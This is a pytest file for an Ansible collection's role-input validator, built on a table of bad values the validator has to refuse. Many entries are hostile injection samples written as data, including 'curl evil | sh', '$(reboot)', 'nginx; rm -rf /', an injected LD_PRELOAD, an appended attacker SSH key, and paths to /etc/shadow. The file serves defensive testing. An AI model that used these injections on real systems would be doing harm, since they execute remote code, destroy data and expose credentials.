# -*- coding: utf-8 -*-
# Copyright (c) 2026 dgxspark.ds4 contributors
# GNU General Public License v3.0+ (see https://www.gnu.org/licenses/gpl-3.0.txt)
"""Every role variable checked on the controller before any host changes (plugins/plugin_utils/role_inputs.py).

BAD is the table of bad inputs the security review asked for (types, ranges, paths, newline/quote/$()/; injections,
unicode, very long values, YAML booleans as strings, IPv6), each refused naming the variable and never showing a
secret; the shipped defaults, inventories and every Molecule scenario's values pass. The wiring (the config role's
first play refuses them before any host is contacted) is in tests/integration/test_role_inputs_play.py.
"""


import collections
import glob
import os

import pytest
import yaml

from ansible_collections.dgxspark.ds4.plugins.plugin_utils import role_inputs as ri

REPO = os.path.abspath(os.path.join(os.path.dirname(__file__), '..', '..', '..', '..'))
OPTIONS = ri.options_by_name(ri.load_specs(REPO, yaml.safe_load))
LONG = 'a' * 5000

# (class, variable, bad value)
BAD = [
    # types
    ('type', 'router_listen_port', 'eighty'),
    ('type', 'vllm_service_pair_guard_interval_s', [5]),
    ('type', 'router_policy', 'fastest'),
    ('type', 'vllm_service_container_log_driver', 'syslog'),
    ('type', 'container_image_source', 'registry'),
    ('type', 'monitoring_prometheus_port', {'port': 9090}),
    ('type', 'api_proxy_install_package', 'maybe'),
    ('type', 'router_cache_threshold', 'high'),
    ('type', 'host_hardening_runtime_restart', 'now'),
    ('type', 'nccl_fabric_gid_index', 'seven'),
    ('type', 'peer_access_host_key_type', 'dsa'),
    ('type', 'vllm_service_forensics_source', 'dmesg'),
    # ranges
    ('range', 'router_listen_port', 0),
    ('range', 'router_listen_port', 70000),
    ('range', 'router_prometheus_port', -1),
    ('range', 'monitoring_prometheus_port', 65536),
    ('range', 'nccl_fabric_preflight_port', 0),
    ('range', 'vllm_service_peer_probe_port', 99999),
    ('range', 'vllm_service_pair_guard_interval_s', 0),
    ('range', 'vllm_service_hang_poll_s', 0),
    ('range', 'vllm_service_memory_guard_poll_s', -5),
    ('range', 'router_health_check_interval_s', 0),
    ('range', 'router_vrrp_virtual_router_id', 256),
    ('range', 'router_vrrp_virtual_router_id', 0),
    ('range', 'host_hardening_vm_swappiness', 300),
    ('range', 'host_hardening_vm_overcommit_memory', 2),
    ('range', 'router_cache_threshold', 1.5),
    ('range', 'nccl_fabric_preflight_mem_fraction', 2.0),
    ('range', 'vllm_service_memory_fraction', 1.2),
    ('range', 'vllm_service_evidence_keep', -1),
    ('range', 'api_proxy_worker_processes', 0),
    ('range', 'model_cache_download_workers', 0),
    ('range', 'vllm_service_canary_max_ttft_ratio', -1.0),
    # paths: system directories, relative, not normal, not ours
    ('path', 'vllm_service_pair_guard_ssh_control_dir', '/tmp'),
    ('path', 'api_proxy_config_dir', '/etc/nginx'),
    ('path', 'api_proxy_router_front_config_dir', '/etc'),
    ('path', 'vllm_service_config_dir', '/'),
    ('path', 'vllm_service_state_dir', '/var/lib'),
    ('path', 'vllm_service_state_dir', '/opt'),
    ('path', 'nccl_fabric_state_dir', '/srv'),
    ('path', 'vllm_service_libexec_dir', '/usr/local/bin'),
    ('path', 'container_image_cache_dir', '/home'),
    ('path', 'container_image_build_dir', '/var/lib/docker'),
    ('path', 'peer_access_dir', '/etc/ssh'),
    ('path', 'router_hold_dir', '/run'),
    ('path', 'router_venv', '/usr'),
    ('path', 'monitoring_prometheus_web_dir', '/etc/prometheus'),
    ('path', 'monitoring_grafana_dashboards_dir', '/var/lib/grafana'),
    ('path', 'vllm_service_evidence_dir', '/proc/self'),
    ('path', 'vllm_service_state_dir', 'var/lib/ds4'),
    ('path', 'vllm_service_state_dir', '../ds4'),
    ('path', 'vllm_service_state_dir', '/var/lib/ds4/../../etc'),
    ('path', 'vllm_service_state_dir', '/var/lib//ds4'),
    ('path', 'vllm_service_state_dir', '/var/lib/ds4/'),
    ('path', 'vllm_service_state_dir', '~/ds4'),
    ('path', 'vllm_service_state_dir', '$HOME/ds4'),
    ('path', 'firewall_config_path', '/etc/nftables.conf'),
    ('path', 'monitoring_prometheus_config_path', '/etc/prometheus/prometheus.yml'),
    ('path', 'router_pool_config_path', '/etc/passwd'),
    ('path', 'router_vrrp_config_path', '/etc/keepalived/keepalived.conf'),
    ('path', 'container_image_pins_path', '/etc/apt/preferences'),
    ('path', 'api_proxy_unit_dir', '/etc/nginx/conf.d'),
    ('path', 'router_unit_dir', '/tmp'),
    ('path', 'firewall_unit_dir', '/lib/systemd/system'),
    ('path', 'vllm_service_guard_textfile', '/etc/shadow'),
    # injections: newlines, quotes, $(...), ;, shell and config metacharacters
    ('newline', 'router_health_check_endpoint', '/health\nExecStartPre=/bin/sh -c id'),
    ('newline', 'vllm_service_api_key', 'k' * 20 + '\nHF_TOKEN=x'),
    ('newline', 'api_proxy_unit_name', 'dgxspark-ds4-proxy.service\n[Service]'),
    ('newline', 'router_vrrp_interface', 'eth0\n}\nvrrp_script x {'),
    ('newline', 'monitoring_prometheus_retention_time', '30d\r\n--web.enable-admin-api'),
    ('newline', 'api_proxy_user', 'www-data\n'),
    ('newline', 'router_version', '0.1.17\n'),
    ('newline', 'container_image_deepgemm_install_command', 'make\nRUN curl evil | sh'),
    ('newline', 'nccl_fabric_env', {'NCCL_DEBUG': 'WARN\nLD_PRELOAD=/tmp/x.so'}),
    ('newline', 'container_image_build_args', {'PIP_EXTRA_INDEX_URL': 'https://x\n'}),
    ('newline', 'ds4_api_keys', ['a' * 20 + '\n']),
    ('newline', 'monitoring_grafana_admin_password', 'pass\nword-long-enough'),
    ('newline', 'peer_access_key_options', ['no-pty\nssh-ed25519 AAAA attacker']),
    ('newline', 'router_pool_workers', ['https://10.0.0.1\n']),
    ('newline', 'vllm_service_allowed_dropins', ['x.conf\x00']),
    ('quote', 'router_vrrp_auth_pass', 'pa"ss'),
    ('quote', 'router_health_check_endpoint', '/health"'),
    ('quote', 'api_proxy_client_max_body_size', "64m'"),
    ('quote', 'router_vrrp_interface', 'eth0"'),
    ('quote', 'monitoring_prometheus_auth_user', 'ds4"'),
    ('subshell', 'router_version', '$(id)'),
    ('subshell', 'vllm_service_api_key', '`id`aaaaaaaaaaaaaaaaaaaa'),
    ('subshell', 'firewall_table', 'dgxspark_ds4$(reboot)'),
    ('subshell', 'monitoring_prometheus_retention_time', '30d$(id)'),
    ('subshell', 'container_image_derived_repository', 'x/$(id)'),
    ('semicolon', 'api_proxy_client_max_body_size', '64m; include /etc/shadow'),
    ('semicolon', 'router_vrrp_auth_pass', 'pass;x'),
    ('semicolon', 'monitoring_scrape_interval', '15s;'),
    ('semicolon', 'firewall_ephemeral_ports', '32768-60999; accept'),
    ('semicolon', 'router_vrrp_script_user', 'nobody;root'),
    ('space', 'monitoring_prometheus_storage_dir', '/var/lib/prometheus/metrics2 --web.enable-admin-api'),
    ('space', 'monitoring_prometheus_retention_time', '30d --web.enable-admin-api'),
    ('space', 'router_health_check_endpoint', '/health /admin'),
    ('space', 'vllm_service_container_log_max_size', '100m --privileged'),
    # unicode
    ('unicode', 'router_health_check_endpoint', '/health\u2028X'),
    ('unicode', 'vllm_service_state_dir', '/var/lib/d\u00e9s4'),
    ('unicode', 'api_proxy_user', 'www\u2011data'),
    ('unicode', 'api_proxy_packages', ['ngin\u0445']),
    ('unicode', 'router_unit_name', 'dgxspark-ds4-r\u00f6uter.service'),
    ('unicode', 'vllm_service_api_key', 'a' * 20 + '\u0085'),
    # very long values
    ('long', 'router_version', LONG),
    ('long', 'container_image_deepgemm_install_command', LONG),
    ('long', 'router_vrrp_auth_pass', LONG),
    # YAML booleans given to text
    ('yaml-bool', 'router_vrrp_auth_pass', True),
    ('yaml-bool', 'router_vrrp_interface', False),
    ('yaml-bool', 'monitoring_prometheus_password', True),
    ('yaml-bool', 'vllm_service_after_crash', True),
    ('yaml-bool', 'router_listen_port', True),
    ('yaml-bool', 'vllm_service_pair_guard_interval_s', False),
    ('yaml-bool', 'vllm_service_state_dir', True),
    # IPv6 and addresses where the option cannot take them
    ('ipv6', 'router_listen_host', '::'),
    ('ipv6', 'router_prometheus_host', '2001:db8::1'),
    ('ipv6', 'monitoring_allowed_networks', ['2001:db8::/129']),
    ('ipv6', 'api_proxy_listen_addresses', ['2001:db8::1::2']),
    ('ipv6', 'router_vrrp_vip', 'fe80::1%eth0'),
    # addresses, names
    ('address', 'router_listen_host', '0.0.0.0'),
    ('address', 'router_listen_host', '10.0.0.5'),
    ('address', 'router_prometheus_host', 'example.com'),
    ('address', 'monitoring_allowed_networks', ['10.0.0.0/33']),
    ('address', 'firewall_monitoring_networks', ['everyone']),
    ('address', 'api_proxy_listen_addresses', ['0.0.0.0:80']),
    ('name', 'router_unit_name', 'router'),
    ('name', 'api_proxy_unit_name', '../../etc/x.service'),
    ('name', 'api_proxy_user', 'Root User'),
    ('name', 'monitoring_prometheus_user', '-oProxyCommand=x'),
    ('name', 'firewall_loopback_users', ['alice', 'Bob Smith']),
    ('name', 'firewall_loopback_groups', ['sudo', '27']),
    ('name', 'api_proxy_packages', ['nginx; rm -rf /']),
    ('name', 'host_hardening_hold_packages', ['-y']),
    ('name', 'peer_access_sshd_service', 'ssh;reboot'),
]


def _refusal(name, value):
    return ri.problems({name: value}, OPTIONS)


@pytest.mark.parametrize('cls,name,value', BAD, ids=['%s-%s-%d' % (c, n, i) for i, (c, n, _v) in enumerate(BAD)])
def test_bad_value_refused_naming_the_variable_and_the_fix(cls, name, value):
    assert name in OPTIONS, name
    lines = _refusal(name, value)
    assert len(lines) == 1, (cls, name, value, lines)
    line = lines[0]
    assert line.startswith(name + ' = '), line
    assert 'Fix: ' in line and 'argument_specs.yml' in line, line
    if ri.is_secret(name, OPTIONS[name]):
        assert '(secret, not shown)' in line
        for s in (value if isinstance(value, list) else [value]):
            if isinstance(s, str) and len(s) > 3:
                assert s not in line and s.strip() not in line


def test_the_table_is_the_review_size_and_every_class_is_there():
    classes = collections.Counter(c for c, _n, _v in BAD)
    assert len(BAD) >= 100
    for cls in ('type', 'range', 'path', 'newline', 'quote', 'subshell', 'semicolon', 'unicode', 'long', 'yaml-bool', 'ipv6'):
        assert classes[cls] >= 3, cls
    roles = set(OPTIONS[n]['_role'] for _c, n, _v in BAD)
    assert {'api_proxy', 'router', 'firewall', 'monitoring', 'vllm_service', 'container_image', 'nccl_fabric',
            'host_hardening', 'peer_access', 'model_cache'} <= roles


def _yaml_values(path):
    with open(path) as handle:
        data = yaml.safe_load(handle) or {}
    return dict((k, v) for k, v in data.items() if isinstance(k, str) and '{{' not in repr(v))


def test_every_shipped_default_passes():
    values = {}
    for path in glob.glob(os.path.join(REPO, 'roles', '*', 'defaults', 'main.yml')):
        values.update(_yaml_values(path))
    assert len(values) > 200
    assert ri.problems(values, OPTIONS) == []


def test_every_inventory_and_scenario_value_passes():
    paths = (glob.glob(os.path.join(REPO, 'inventories', '*', 'group_vars', '*', '*.yml'))
             + glob.glob(os.path.join(REPO, 'molecule', '*', 'vars', '*.yml'))
             + glob.glob(os.path.join(REPO, 'molecule', '*', 'inventory', '*_vars', '*.yml'))
             + glob.glob(os.path.join(REPO, 'molecule', '*', 'inventory', '*_vars', '*', '*.yml')))
    checked = 0
    for path in paths:
        values = _yaml_values(path)
        checked += len([n for n in values if n in OPTIONS])
        assert ri.problems(values, OPTIONS) == [], path
    # the YAML inventories' inline host and group vars
    for path in glob.glob(os.path.join(REPO, 'molecule', '*', 'inventory', 'hosts.yml')) + [
            os.path.join(REPO, 'inventories', 'sample-site', 'hosts.yml')]:
        with open(path) as handle:
            for values in _inventory_vars(yaml.safe_load(handle) or {}):
                checked += len([n for n in values if n in OPTIONS])
                assert ri.problems(values, OPTIONS) == [], path
    assert checked > 20


def _inventory_vars(group):
    """Every vars mapping of a YAML inventory (group vars, host vars, children's), templates left out."""
    for name, body in (group or {}).items():
        if not isinstance(body, dict):
            continue
        if isinstance(body.get('vars'), dict):
            yield dict((k, v) for k, v in body['vars'].items() if '{{' not in repr(v))
        for host_vars in (body.get('hosts') or {}).values():
            if isinstance(host_vars, dict):
                yield dict((k, v) for k, v in host_vars.items() if '{{' not in repr(v))
        yield from _inventory_vars(body.get('children') or {})


def test_every_path_option_is_checked_as_a_path():
    for name, option in OPTIONS.items():
        if option.get('type') == 'path' or option.get('elements') == 'path':
            assert ri.kind(name, option).startswith(('path', 'unit-dir')), name


def test_good_values_of_each_kind_pass():
    good = {
        'vllm_service_state_dir': '/srv/ds4/state', 'router_listen_host': '::1', 'router_listen_port': 30001,
        'api_proxy_listen_addresses': ['0.0.0.0', '::'], 'monitoring_allowed_networks': ['10.0.0.0/24', '2001:db8::/64'],
        'router_vrrp_auth_pass': 'Abc123_-', 'vllm_service_api_key': 'k' * 32, 'api_proxy_client_max_body_size': '128m',
        'host_hardening_hold_packages': ['nvidia-driver-580', 'cuda-*'], 'router_unit_name': 'my-router@1.service',
        'vllm_service_pair_guard_ssh_control_dir': '/run/dgxspark-ds4/ssh', 'firewall_config_path': '/etc/dgxspark-ds4/nft.conf',
        'monitoring_prometheus_config_path': '/etc/prometheus/ds4-site.yml', 'router_unit_dir': '/run/systemd/system',
        'container_image_deepgemm_install_command': 'git clone {repo} /tmp/DeepGEMM && cd /tmp/DeepGEMM && ./install.sh',
        'peer_access_key_options': ['no-pty', 'from="10.0.0.2"'], 'monitoring_prometheus_password': 'correct horse battery',
        'vllm_service_memory_fraction': 0.8, 'model_cache_hash_workers': 0,
        'firewall_loopback_users': ['alice', 'svc_llm'], 'firewall_loopback_groups': ['sudo', 'adm'],
    }
    assert ri.problems(good, OPTIONS) == []
    # the documented ends of a range pass: 0 turns the memory gate off
    for value in (0, 0.0, 1, 1.0):
        assert ri.problems({'vllm_service_memory_fraction': value, 'nccl_fabric_preflight_mem_fraction': value}, OPTIONS) == []


def test_a_template_the_controller_cannot_resolve_yet_is_left_to_the_role():
    assert ri.problems({'vllm_service_container_name': "dgxspark-ds4-{{ ds4_effective['role'] }}"}, OPTIONS) == []


def test_ipv6_client_networks_need_an_ipv6_proxy_listen_address():
    """The firewall opened the port to an IPv6 network before the proxy's preflight refused it (issue 46): now the
    config play refuses it, and the documented fix ("[::]") passes."""
    eff = {'role': 'head', 'api': {'proxied': True, 'allowed_networks': ['10.0.0.0/24', '2001:db8::/64']}}
    lines = ri.cross_problems(eff, {}, OPTIONS)
    assert len(lines) == 1 and lines[0].startswith("api_proxy_listen_addresses = ['0.0.0.0'] has no IPv6 address")
    assert '2001:db8::/64' in lines[0] and 'Fix: add "[::]"' in lines[0]
    fixed = {'api_proxy_listen_addresses': ['0.0.0.0', '[::]']}
    assert ri.cross_problems(eff, fixed, OPTIONS) == [] and ri.problems(fixed, OPTIONS) == []
    assert ri.cross_problems(dict(eff, role='worker'), {}, OPTIONS) == []
    assert ri.cross_problems({'role': 'head', 'api': {'proxied': True, 'allowed_networks': ['10.0.0.0/24']}}, {}, OPTIONS) == []


def test_controller_files_and_ssh_argv_keep_their_own_forms():
    """A file on the controller may be relative (ansible-playbook's directory); an ssh argv element may hold a space."""
    good = {'monitoring_prometheus_tls_cert': 'files/prometheus.crt', 'monitoring_prometheus_tls_key': '~/tls/prometheus.key',
            'model_cache_peer_ssh': ['ssh', '-o', 'ProxyCommand=ssh -W %h:%p jump', 'root@10.0.0.2']}
    assert ri.problems(good, OPTIONS) == []
    lines = ri.problems({'monitoring_prometheus_tls_key': 'files/k.pem\n'}, OPTIONS)
    assert len(lines) == 1 and '(secret, not shown)' in lines[0]
